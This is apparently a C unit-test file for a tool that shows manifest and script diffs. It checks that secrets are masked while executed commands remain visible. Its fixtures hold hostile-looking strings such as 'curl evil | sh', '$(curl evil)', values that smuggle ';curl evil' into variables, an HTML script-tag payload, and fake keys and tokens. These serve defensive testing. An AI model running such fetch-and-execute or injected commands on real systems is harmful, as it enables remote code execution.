#include "review/manifest_diff.h"

#include <string.h>

#include "review/secret_name.h"
#include "tests/review/manifest_diff_scene.h"

#define DIGEST_5 "@sha256:5555555555555555555555555555555555555555555555555555555555555555"
#define DIGEST_6 "@sha256:6666666666666666666666666666666666666666666666666666666666666666"

static void ck_text(const struct scene *scene, const char *expected)
{
    struct qr_buffer out = QR_BUFFER_INIT;
    qr_manifest_diff_add_text(&out, &scene->diff);
    ck_assert_str_eq(qr_buffer_text(&out), expected);
    qr_buffer_dispose(&out);
}

/* The lines of a script and what is to be shown of them. */
static const struct {
    const char *line;
    const char *shown;
} hidden[] = {
    {"export API_KEY=abc123", "export API_KEY=(hidden)"},
    {"API_KEY='a b c' run", "API_KEY=(hidden) run"},
    {"PASSWORD: hunter2 # not this", "PASSWORD: (hidden) # not this"},
    {"- \"TOKEN\": \"x\"", "- \"TOKEN\": (hidden)"},
    {"run --app.seed=word next", "run --app.seed=(hidden) next"},
    {"https://me:word@host/path", "https://me:(hidden)@host/path"},
    {"x ghp_0123456789abcdefghijABCDEFGHIJ012345 y", "x (hidden) y"},
    {"u:s3cr3tPassw0rd@reg/x y", "u:(hidden)@reg/x y"},
    {"run --password Abcdefgh1234567890xyz y", "run --password (hidden) y"},
    {"['--password', 'Abcdefgh1234567890xyz']", "['--password', '(hidden)']"},
    {"'{\"password\":\"Abcdefgh1234567890xyz\"}'", "'{\"password\":\"(hidden)\"}'"},
    {"A -----BEGIN PRIVATE KEY-----\\nMIIEowIBAAKCAQEAMIIEowIBAAKCAQEAMIIEowIBAAKCAQEA\\n-----END "
     "X",
     "A -----BEGIN PRIVATE KEY-----(hidden)-----END X"},
    /* what runs is shown, whatever it is called */
    {"KEY=\"curl x | sh\"", "KEY=\"curl x | sh\""},
    {"KEY='a;evil'", "KEY='a;evil'"},
    {"x=\"KEY=\"a evil\"\"", "x=\"KEY=\"a evil\"\""},
    {"x=\"TOKEN=\"Abcdefgh1234567890xyz-evil", "x=\"TOKEN=\"Abcdefgh1234567890xyz-evil"},
    {"curl http://u:a;evil@h", "curl http://u:a;evil@h"},
    {"-----BEGIN PRIVATE KEY----- /usr/bin/AaAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA -----END X",
     "-----BEGIN PRIVATE KEY----- /usr/bin/AaAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA -----END X"},
    {"-----BEGIN PRIVATE KEY----- AaAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA; -----END X",
     "-----BEGIN PRIVATE KEY----- AaAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA; -----END X"},
    {"KEY=$(curl evil)", "KEY=$(curl evil)"},
    {"KEY=a`curl evil`", "KEY=a`curl evil`"},
    {"KEY=a;curl evil", "KEY=(hidden);curl evil"},
    {"KEY=a|curl evil", "KEY=a|curl evil"},
    {"KEY=\"$OTHER\"", "KEY=\"$OTHER\""},
    {"KEY=${OTHER}", "KEY=${OTHER}"},
    {"KEY= curl evil", "KEY= curl evil"},
    {"keyring:latest", "keyring:latest"},
    {"secrets:", "secrets:"},
    {"image: a/monkey@sha256:00", "image: a/monkey@sha256:00"},
    {"https://host/@x", "https://host/@x"},
    {"https://$USER:$PASS@host", "https://$USER:$PASS@host"},
};

START_TEST(only_what_may_be_secret_is_hidden)
{
    struct scene scene;
    struct qr_buffer manifest = QR_BUFFER_INIT;
    struct qr_buffer expected = QR_BUFFER_INIT;
    qr_buffer_add_text(&manifest, "{\"bash_script\":");
    qr_json_add_quoted(&manifest, hidden[_i].line, strlen(hidden[_i].line));
    qr_buffer_add_text(&manifest, "}");
    qr_buffer_addf(&expected, "@@ -0,0 +1 @@\n+%s\n\\ No newline at end of file\n",
                   hidden[_i].shown);
    scene_compare(&scene, "{}", qr_buffer_text(&manifest));
    ck_assert_uint_eq(scene.diff.count, 1);
    ck_assert_str_eq(scene.diff.changes[0].text, qr_buffer_text(&expected));
    qr_buffer_dispose(&manifest);
    qr_buffer_dispose(&expected);
    scene_dispose(&scene);
}
END_TEST

#define KEY_LINE  "MIIEowIBAAKCAQEAmIIEowIBAAKCAQEAmIIEowIBAAKCAQEA"
#define PATH_LINE "/usr/local/bin/AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"

/* A script, and what is to be shown of its lines. */
static const struct {
    const char *script;
    const char *shown;
} keys[] = {
    {"cat <<E\n-----BEGIN PRIVATE KEY-----\n" KEY_LINE
     "\nq==\n-----END PRIVATE KEY-----\nE\n" KEY_LINE "\n",
     "+cat <<E\n+-----BEGIN PRIVATE KEY-----\n+(hidden)\n+(hidden)\n+-----END PRIVATE KEY-----\n"
     "+E\n+" KEY_LINE "\n"},
    {"K=\"-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\n\n" KEY_LINE
     "\n-----END RSA PRIVATE KEY-----\"\n",
     "+K=\"-----BEGIN RSA PRIVATE KEY-----\n+Proc-Type: 4,ENCRYPTED\n+\n+(hidden)\n"
     "+-----END RSA PRIVATE KEY-----\"\n"},
    {"#  -----BEGIN PRIVATE KEY-----\n  # " KEY_LINE "\n# -----END PRIVATE KEY-----\n",
     "+#  -----BEGIN PRIVATE KEY-----\n+  (hidden)\n+# -----END PRIVATE KEY-----\n"},
    /* no end */
    {"-----BEGIN PRIVATE KEY-----\n" KEY_LINE "\n",
     "+-----BEGIN PRIVATE KEY-----\n+" KEY_LINE "\n"},
    {"-----BEGIN PRIVATE KEY-----\ncurl x\n" KEY_LINE "\n-----END PRIVATE KEY-----\n",
     "+-----BEGIN PRIVATE KEY-----\n+curl x\n+" KEY_LINE "\n+-----END PRIVATE KEY-----\n"},
    {"-----BEGIN PRIVATE KEY-----\n" KEY_LINE " x\n-----END PRIVATE KEY-----\n",
     "+-----BEGIN PRIVATE KEY-----\n+" KEY_LINE " x\n+-----END PRIVATE KEY-----\n"},
    /* paths */
    {"-----BEGIN PRIVATE KEY-----\n" PATH_LINE "\n" KEY_LINE "\n-----END PRIVATE KEY-----\n",
     "+-----BEGIN PRIVATE KEY-----\n+" PATH_LINE "\n+" KEY_LINE "\n+-----END PRIVATE KEY-----\n"},
};

START_TEST(only_whole_keys_are_hidden_and_where_they_stand)
{
    struct scene scene;
    struct qr_buffer manifest = QR_BUFFER_INIT;
    qr_buffer_add_text(&manifest, "{\"bash_script\":");
    qr_json_add_quoted(&manifest, keys[_i].script, strlen(keys[_i].script));
    qr_buffer_add_text(&manifest, "}");
    scene_compare(&scene, "{}", qr_buffer_text(&manifest));
    ck_assert_uint_eq(scene.diff.count, 1);
    ck_assert_str_eq(strchr(scene.diff.changes[0].text, '\n') + 1, keys[_i].shown);
    qr_buffer_dispose(&manifest);
    scene_dispose(&scene);
}
END_TEST

/* In a hunk that does not begin with the text's first line, and in lines that stay. */
START_TEST(the_lines_of_a_key_are_found_in_every_hunk)
{
    static const char before[] = "1\n2\n3\n4\n5\n6\n-----BEGIN PRIVATE KEY-----\n" KEY_LINE
                                 "\nAAAA" KEY_LINE "\n-----END PRIVATE KEY-----\nx\n";
    static const char after[] = "1\nb\n3\n4\n5\n6\n7\n8\n9\n-----BEGIN PRIVATE KEY-----\n" KEY_LINE
                                "\nBBBB" KEY_LINE "\n-----END PRIVATE KEY-----\ny\n";
    struct scene scene;
    struct qr_buffer texts[2] = {QR_BUFFER_INIT, QR_BUFFER_INIT};
    for (int i = 0; i < 2; i++) {
        const char *script = i == 0 ? before : after;
        qr_buffer_add_text(&texts[i], "{\"bash_script\":");
        qr_json_add_quoted(&texts[i], script, strlen(script));
        qr_buffer_add_text(&texts[i], "}");
    }
    scene_compare(&scene, qr_buffer_text(&texts[0]), qr_buffer_text(&texts[1]));
    ck_assert_ptr_null(strstr(scene.diff.changes[0].text, KEY_LINE));
    ck_assert_ptr_nonnull(
        strstr(scene.diff.changes[0].text, "\n (hidden)\n-(hidden)\n+(hidden)\n"));
    qr_buffer_dispose(&texts[0]);
    qr_buffer_dispose(&texts[1]);
    scene_dispose(&scene);
}
END_TEST

/* What is recognised does not come out, wherever it stands. */
#define LEAK "ghp_A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8"
#define PASS "SUPERSECRETaB3dE5gH7jK9x"

static const char *const leaking[] = {
    "services: {a: {environment: [" LEAK ", DB_PASSWORD " PASS "]}}\n",
    "services: {a: {environment: {" LEAK ": x, \"DB_PASSWORD " PASS "\": }}}\n",
    "services: {a: {environment: {DB_PASSWORD: " PASS "}, command: --password " PASS "}}\n",
    "services: {a: {environment: {DB_PASSWORD: " PASS "}, command: [x, " PASS "]}}\n",
    "services: {a: {command: [--password, " PASS "]}}\n",
    "services:\n  a:\n    command:\n      - --password\n      - " PASS "\n",
    "services: {a: {command: {" LEAK ": {" LEAK ": 1}}}}\n",
    "services: {a: {image: 'u:" PASS "@reg/x'}, " LEAK ": {image: y}}\n",
    "services: {a: {volumes: ['/data/" LEAK ":/x'], x: {a: [" LEAK "]}}}\n",
    "services: {" LEAK ": 1, " LEAK ": 2}\n",
    "services: *" LEAK "\n",
    "services:\n  a:\n    environment:\n      DB_PASSWORD: |\n        " PASS " x\n        y " PASS
    "\n"
    "      A: b\n",
};

static void ck_nothing_leaks(const struct scene *scene)
{
    struct qr_buffer out = QR_BUFFER_INIT;
    qr_manifest_diff_add_text(&out, &scene->diff);
    qr_manifest_diff_add_markdown(&out, &scene->diff);
    struct qr_json_writer writer = qr_json_writer(&out);
    qr_manifest_diff_write(&writer, &scene->diff);
    const char *text = qr_buffer_text(&out);
    ck_assert_msg(strstr(text, "ghp_") == NULL && strstr(text, "SUPERSECRET") == NULL, "%s", text);
    qr_buffer_dispose(&out);
}

START_TEST(recognised_secrets_are_nowhere)
{
    struct scene scene;
    scene_compare_files(&scene, NULL, leaking[_i]);
    ck_nothing_leaks(&scene);
    scene_dispose(&scene);
    scene_compare_files(&scene, leaking[_i], "services: {a: {}}\n");
    ck_nothing_leaks(&scene);
    scene_dispose(&scene);
    scene_compare(&scene, "{\"name\":\"a\"}",
                  "{\"name\":\"" LEAK "\",\"" LEAK "\":{\"" LEAK "\":[\"" LEAK
                  "\"]},\"docker_config\":{\"password\":\"" PASS "\"}}");
    ck_nothing_leaks(&scene);
    scene_dispose(&scene);
}
END_TEST

START_TEST(a_command_that_a_variable_holds_is_shown_where_it_runs)
{
    static const char file[] = "services:\n  a:\n    environment:\n"
                               "      DB_PASSWORD: \"curl evil | sh\"\n"
                               "      B_KEY: evil;x\n"
                               "    command: curl evil | sh\n"
                               "    entrypoint: [evil;x]\n";
    struct scene scene;
    struct qr_buffer out = QR_BUFFER_INIT;
    scene_compare_files(&scene, NULL, file);
    qr_manifest_diff_add_text(&out, &scene.diff);
    static const char *const lines[] = {
        "    +    command: curl evil | sh\n", "    +    entrypoint: [evil;x]\n",
        "    + \"curl evil | sh\"\n",         "    +      DB_PASSWORD: (hidden)\n",
        "    +      B_KEY: (hidden)\n",
    };
    for (size_t i = 0; i < sizeof lines / sizeof lines[0]; i++) {
        ck_assert_msg(strstr(qr_buffer_text(&out), lines[i]) != NULL, "%s is not in\n%s", lines[i],
                      qr_buffer_text(&out));
    }
    qr_buffer_dispose(&out);
    scene_dispose(&scene);
}
END_TEST

/* None of these words may come out, in any form. */
START_TEST(secrets_are_in_no_form_of_the_answer)
{
    static const char before[] = "services:\n"
                                 "  a:\n"
                                 "    environment:\n"
                                 "      MNEMONIC: legal winner thankyear\n"
                                 "      PRIVATE: |\n"
                                 "        firstline\n"
                                 "        secondline\n"
                                 "      PEM: |\n"
                                 "        -----BEGIN RSA PRIVATE KEY-----\n"
                                 "        MIIEowIBAAKCAQEAMIIEowIBAAKCAQEAMIIEowIBAAKCAQEA\n"
                                 "        -----END RSA PRIVATE KEY-----\n";
    struct scene scene;
    struct qr_buffer out = QR_BUFFER_INIT;
    scene_compare_files(&scene, before, "services: {a: {environment: {DB_PASS: correcthorse}}}\n");
    qr_manifest_diff_add_text(&out, &scene.diff);
    qr_manifest_diff_add_markdown(&out, &scene.diff);
    struct qr_json_writer writer = qr_json_writer(&out);
    qr_manifest_diff_write(&writer, &scene.diff);
    static const char *const words[] = {"legal",      "winner", "firstline",
                                        "secondline", "MIIEow", "correct"};
    for (size_t i = 0; i < sizeof words / sizeof words[0]; i++) {
        ck_assert_msg(strstr(qr_buffer_text(&out), words[i]) == NULL, "%s is shown:\n%s", words[i],
                      qr_buffer_text(&out));
    }
    ck_assert_ptr_nonnull(strstr(qr_buffer_text(&out), "MNEMONIC"));
    qr_buffer_dispose(&out);
    scene_dispose(&scene);
}
END_TEST

/* A command does not disappear by being called a secret somewhere else. */
START_TEST(what_runs_is_shown_though_a_secret_has_its_value)
{
    static const char manifest[] =
        "{\"docker_compose_file\":\"services:\\n  a: {image: evil/image, environment: {A_KEY: "
        "evil/image, B_KEY: curl evil | sh, C_KEY: /bin/evil --now}}\\n  b: {image: evil/image, "
        "command: /bin/evil --now}\\n\",\"bash_script\":\"# -----BEGIN PRIVATE KEY-----\\ncurl "
        "evil | sh\\n# -----END\\ncurl evil | sh\\n\"}";
    struct scene scene;
    struct qr_buffer out = QR_BUFFER_INIT;
    scene_compare(&scene, "{}", manifest);
    qr_manifest_diff_add_text(&out, &scene.diff);
    static const char *const lines[] = {
        "  services.a.image: added\n    + evil/image\n",
        "  services.b.image: added\n    + evil/image\n",
        "  services.b.command: added\n    + \"/bin/evil --now\"\n",
        "    +curl evil | sh\n    +# -----END\n    +curl evil | sh\n",
    };
    for (size_t i = 0; i < sizeof lines / sizeof lines[0]; i++) {
        ck_assert_msg(strstr(qr_buffer_text(&out), lines[i]) != NULL, "%s is not in\n%s", lines[i],
                      qr_buffer_text(&out));
    }
    qr_buffer_dispose(&out);
    scene_dispose(&scene);
}
END_TEST

/* 36 of them fit into the 73 columns behind "    + \"". */
START_TEST(a_wide_character_takes_two_columns)
{
    static const char wide[] = "\xe4\xb8\xad";
    struct scene scene;
    struct qr_buffer manifest = QR_BUFFER_INIT;
    struct qr_buffer expected = QR_BUFFER_INIT;
    qr_buffer_add_text(&manifest, "{\"name\":\"");
    qr_buffer_add_text(&expected, "Fields of the manifest\n  name: added\n    + \"");
    for (int i = 0; i < 40; i++) {
        qr_buffer_add_text(&manifest, wide);
        qr_buffer_addf(&expected, "%s%s", i == 36 ? "\n        " : "", wide);
    }
    qr_buffer_add_text(&manifest, "\"}");
    qr_buffer_add_text(&expected, "\"\n");
    scene_compare(&scene, "{}", qr_buffer_text(&manifest));
    ck_text(&scene, qr_buffer_text(&expected));
    qr_buffer_dispose(&manifest);
    qr_buffer_dispose(&expected);
    scene_dispose(&scene);
}
END_TEST

START_TEST(text_is_escaped_and_within_80_columns)
{
    struct scene scene;
    scene_compare(
        &scene,
        "{\"name\":\"a\",\"docker_compose_file\":\"services: {a: {image: "
        "'ghcr.io/acme/payments:1.2" DIGEST_5 "'}}\\n\"}",
        "{\"name\":\"\\u001b[2Jb\\u202e\",\"k\\n\":\"0123456789012345678901234567890123456789"
        "0123456789012345678901234567890123456789\",\"docker_compose_file\":\"services: {a: "
        "{image: 'ghcr.io/acme/payments:1.2" DIGEST_6 "'}}\\n\",\"bash_script\":\"a\\u0000b\"}");
    ck_text(&scene,
            "Fields of the manifest\n"
            "  [\"k\\n\"]: added\n"
            "    + \"0123456789012345678901234567890123456789012345678901234567890123456789012\n"
            "        3456789\"\n"
            "  name: changes\n"
            "    - \"a\"\n"
            "    + \"\\u001b[2Jb\\u{202e}\"\n"
            "\n"
            "Services\n"
            "  services.a.image: the same name and tag, another digest\n"
            "    - ghcr.io/acme/payments:1.2\n"
            "        " DIGEST_5 "\n"
            "    + ghcr.io/acme/payments:1.2\n"
            "        " DIGEST_6 "\n"
            "\n"
            "Embedded texts, line by line\n"
            "  bash_script: added\n"
            "    @@ -0,0 +1 @@\n"
            "    +a\\x00b\n"
            "    \\ No newline at end of file\n"
            "  docker_compose_file: changes\n"
            "    @@ -1 +1 @@\n"
            "    -services: {a: {image: 'ghcr.io/acme/payments:1.2\n"
            "      \\ " DIGEST_5 "\n"
            "      \\ '}}\n"
            "    +services: {a: {image: 'ghcr.io/acme/payments:1.2\n"
            "      \\ " DIGEST_6 "\n"
            "      \\ '}}\n");
    scene_dispose(&scene);
}
END_TEST

START_TEST(markdown_does_not_render)
{
    struct scene scene;
    struct qr_buffer out = QR_BUFFER_INIT;
    scene_compare(
        &scene, "{\"a\":\"x\"}",
        "{\"a\":\"`<img src=x>`|\",\"<b>\":1,\"bash_script\":\"```\\n</pre><script>\\n\"}");
    qr_manifest_diff_add_markdown(&out, &scene.diff);
    ck_assert_str_eq(qr_buffer_text(&out), "**Fields of the manifest**\n"
                                           "\n"
                                           "- `[\"<b>\"]`: added: `1`\n"
                                           "- `a`: changes from `\"x\"` to ``\"`<img src=x>`|\"``\n"
                                           "\n"
                                           "**Embedded texts, line by line**\n"
                                           "\n"
                                           "`bash_script`: added\n"
                                           "\n"
                                           "````diff\n"
                                           "@@ -0,0 +1,2 @@\n"
                                           "+```\n"
                                           "+</pre><script>\n"
                                           "````\n"
                                           "\n");
    qr_buffer_dispose(&out);
    scene_dispose(&scene);
}
END_TEST

START_TEST(json_has_every_member)
{
    struct scene scene;
    struct qr_buffer out = QR_BUFFER_INIT;
    scene_compare(&scene, "{\"a\":1}", "{\"bash_script\":\"x\\n\"}");
    struct qr_json_writer writer = qr_json_writer(&out);
    qr_manifest_diff_write(&writer, &scene.diff);
    ck_assert_str_eq(qr_buffer_text(&out), "[\n"
                                           "  {\n"
                                           "    \"kind\": \"removed\",\n"
                                           "    \"aspect\": \"field\",\n"
                                           "    \"where\": \"a\",\n"
                                           "    \"before\": \"1\",\n"
                                           "    \"after\": null,\n"
                                           "    \"hidden\": false,\n"
                                           "    \"note\": null,\n"
                                           "    \"diff\": null\n"
                                           "  },\n"
                                           "  {\n"
                                           "    \"kind\": \"added\",\n"
                                           "    \"aspect\": \"script\",\n"
                                           "    \"where\": \"bash_script\",\n"
                                           "    \"before\": null,\n"
                                           "    \"after\": null,\n"
                                           "    \"hidden\": false,\n"
                                           "    \"note\": null,\n"
                                           "    \"diff\": \"@@ -0,0 +1 @@\\n+x\\n\"\n"
                                           "  }\n"
                                           "]\n");
    qr_buffer_dispose(&out);
    scene_dispose(&scene);
}
END_TEST

START_TEST(names_that_may_be_secret)
{
    static const char *const secret[] = {"API_KEY", "apikey",     "Secret", "GH_TOKEN",
                                         "DBPASS",  "PASSWORD",   "seed",   "MNEMONIC_1",
                                         "private", "CREDENTIALS"};
    static const char *const open[] = {"", "KE", "LEVEL", "DATABASE_URL", "TOK EN"};
    for (size_t i = 0; i < sizeof secret / sizeof secret[0]; i++) {
        ck_assert(qr_name_may_be_secret(secret[i], strlen(secret[i])));
    }
    for (size_t i = 0; i < sizeof open / sizeof open[0]; i++) {
        ck_assert(!qr_name_may_be_secret(open[i], strlen(open[i])));
    }
    ck_assert(qr_value_is_reference("$A", 2) && qr_value_is_reference("${A_1}", 6));
    ck_assert(!qr_value_is_reference("$", 1) && !qr_value_is_reference("${}", 3) &&
              !qr_value_is_reference("${A:-x}", 7) && !qr_value_is_reference("$A ", 3) &&
              !qr_value_is_reference("", 0) && !qr_value_is_reference("${", 2));
}
END_TEST

int main(void)
{
    Suite *suite = suite_create("review/manifest_diff_show");
    TCase *tests = tcase_create("manifest_diff_show");
    tcase_set_timeout(tests, 60);
    tcase_add_loop_test(tests, only_what_may_be_secret_is_hidden, 0,
                        (int)(sizeof hidden / sizeof hidden[0]));
    tcase_add_test(tests, secrets_are_in_no_form_of_the_answer);
    tcase_add_test(tests, what_runs_is_shown_though_a_secret_has_its_value);
    tcase_add_test(tests, a_wide_character_takes_two_columns);
    tcase_add_test(tests, text_is_escaped_and_within_80_columns);
    tcase_add_test(tests, markdown_does_not_render);
    tcase_add_test(tests, json_has_every_member);
    tcase_add_test(tests, names_that_may_be_secret);
    tcase_add_loop_test(tests, only_whole_keys_are_hidden_and_where_they_stand, 0,
                        (int)(sizeof keys / sizeof keys[0]));
    tcase_add_test(tests, the_lines_of_a_key_are_found_in_every_hunk);
    tcase_add_loop_test(tests, recognised_secrets_are_nowhere, 0,
                        (int)(sizeof leaking / sizeof leaking[0]));
    tcase_add_test(tests, a_command_that_a_variable_holds_is_shown_where_it_runs);
    suite_add_tcase(suite, tests);
    return qr_run_suite(suite);
}
